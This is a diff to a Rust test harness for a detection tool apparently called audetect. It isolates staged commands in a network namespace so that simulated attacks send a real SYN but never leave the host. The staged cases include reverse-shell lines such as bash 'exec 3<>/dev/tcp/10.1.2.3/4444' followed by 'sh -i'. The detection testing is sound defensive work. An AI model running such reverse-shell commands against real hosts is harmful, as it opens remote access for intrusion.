@@ -33,8 +33,9 @@ const BARRIER_RULE: &str = "audetect pack test barrier";
 /// How long a staged command may run.
 const STAGING_TIMEOUT: Duration = Duration::from_secs(20);
 
-/// How long an alert may trail the barrier that follows it.
-const ALERT_GRACE: Duration = Duration::from_secs(5);
+/// How long an alert may trail the barrier that follows it. The pipeline is
+/// in record order, so it should not trail at all; this is slack, not a wait.
+const ALERT_GRACE: Duration = Duration::from_secs(2);
 
 /// One rule of the pack, staged for real and missed narrowly.
 struct Case {
@@ -642,11 +643,20 @@ fn reader(child: &mut Child, stdout: bool) -> std::thread::JoinHandle<String> {
     })
 }
 
-/// `unshare -n PROGRAM ARGS...`: the process in a network namespace of its
-/// own, where no packet can leave, so it may "connect" to any address.
-fn in_own_netns(ctx: &Ctx, program: &Path) -> Res<Command> {
+/// `PROGRAM ARGS...` (the caller adds ARGS) in a network namespace of its
+/// own whose `lo` holds `addr`: a connect to `addr` sends a real SYN, which
+/// that `lo` answers (a RST where nothing listens), and no packet leaves the
+/// host. A connect with no route at all (ENETUNREACH) would be no attempt:
+/// Elastic's sensor, and audetect, count only connects that sent a SYN.
+fn in_own_netns(ctx: &Ctx, addr: &str, program: &Path) -> Res<Command> {
+    let ip = tool("ip")?;
     let mut c = ctx.cmd(tool("unshare")?);
-    c.arg("-n").arg(program);
+    c.args(["-n", "sh", "-c"])
+        .arg(format!(
+            "{ip} link set lo up && {ip} addr add {addr}/32 dev lo && exec \"$0\" \"$@\"",
+            ip = ip.display()
+        ))
+        .arg(program);
     Ok(c)
 }
 
@@ -680,7 +690,8 @@ fn as_nobody(ctx: &Ctx) -> Res<Command> {
 
 fn revshell_terminal(c: &Ctx) -> Res<u32> {
     let bash = tool("bash")?;
-    Ok(run(in_own_netns(c, &bash)?.args(["-c", "exec 3<>/dev/tcp/10.1.2.3/4444"]))?.pid)
+    let script = "exec 3<>/dev/tcp/10.1.2.3/4444";
+    Ok(run(in_own_netns(c, "10.1.2.3", &bash)?.args(["-c", script]))?.pid)
 }
 
 fn revshell_terminal_miss(c: &Ctx) -> Res<()> {
@@ -1104,16 +1115,18 @@ fn kubelet_connect_miss(c: &Ctx) -> Res<()> {
     Ok(())
 }
 
-/// bash's connect to `dest` fails in a namespace with no route; the shell goes on.
+/// bash connects to `dest`; refused or not, the shell goes on.
 fn connect_then(dest: &str, then: &str) -> String {
     format!("true 3<>/dev/tcp/{dest} 2>/dev/null; {then}")
 }
 
 fn revshell_child(c: &Ctx) -> Res<u32> {
     let script = connect_then("10.1.2.3/4444", "exec sh -i -c true");
-    Ok(run(in_own_netns(c, &tool("bash")?)?.args(["-c", &script]))?
-        .ok()?
-        .pid)
+    Ok(
+        run(in_own_netns(c, "10.1.2.3", &tool("bash")?)?.args(["-c", &script]))?
+            .ok()?
+            .pid,
+    )
 }
 
 fn revshell_child_miss(c: &Ctx) -> Res<()> {
@@ -1124,7 +1137,7 @@ fn revshell_child_miss(c: &Ctx) -> Res<()> {
 
 fn revshell_grandchild(c: &Ctx) -> Res<u32> {
     let script = connect_then("10.1.2.3/4444", "sh -i -c 'echo pid $$'; true");
-    run(in_own_netns(c, &tool("bash")?)?.args(["-c", &script]))?
+    run(in_own_netns(c, "10.1.2.3", &tool("bash")?)?.args(["-c", &script]))?
         .ok()?
         .printed("pid")
 }
@@ -1139,14 +1152,16 @@ fn revshell_grandchild_miss(c: &Ctx) -> Res<()> {
 fn netcon_then_file(c: &Ctx) -> Res<u32> {
     let bash = c.copy_tool("bash", "bash")?;
     let script = connect_then("1.2.3.4/443", "echo staged > payload.bin");
-    Ok(run(in_own_netns(c, &bash)?.args(["-c", &script]))?
-        .ok()?
-        .pid)
+    Ok(
+        run(in_own_netns(c, "1.2.3.4", &bash)?.args(["-c", &script]))?
+            .ok()?
+            .pid,
+    )
 }
 
 fn netcon_then_file_miss(c: &Ctx) -> Res<()> {
     let script = connect_then("10.1.2.3/443", "echo staged > payload2.bin");
-    run(in_own_netns(c, &c.path("bash"))?.args(["-c", &script]))?.ok()?;
+    run(in_own_netns(c, "10.1.2.3", &c.path("bash"))?.args(["-c", &script]))?.ok()?;
     Ok(())
 }
 
@@ -1222,19 +1237,12 @@ const OLLAMA: &str = "import os, socket, sys\n\
 
 /// The fake ollama in a network namespace of its own, where `addr` is on lo.
 fn ollama(c: &Ctx, addr: &str) -> Res<Ran> {
-    let ip = tool("ip")?;
     let script = c.write("ollama.py", OLLAMA)?;
     let ollama = c.path("ollama");
     if !ollama.exists() {
         c.copy_tool("python3", "ollama")?;
     }
-    let sh = format!(
-        "{ip} link set lo up && {ip} addr add {addr}/32 dev lo && exec {} {} {addr}",
-        ollama.display(),
-        script.display(),
-        ip = ip.display()
-    );
-    run(in_own_netns(c, &tool("sh")?)?.args(["-c", &sh]))?.ok()
+    run(in_own_netns(c, addr, &ollama)?.arg(script).arg(addr))?.ok()
 }
 
 fn ollama_external(c: &Ctx) -> Res<u32> {
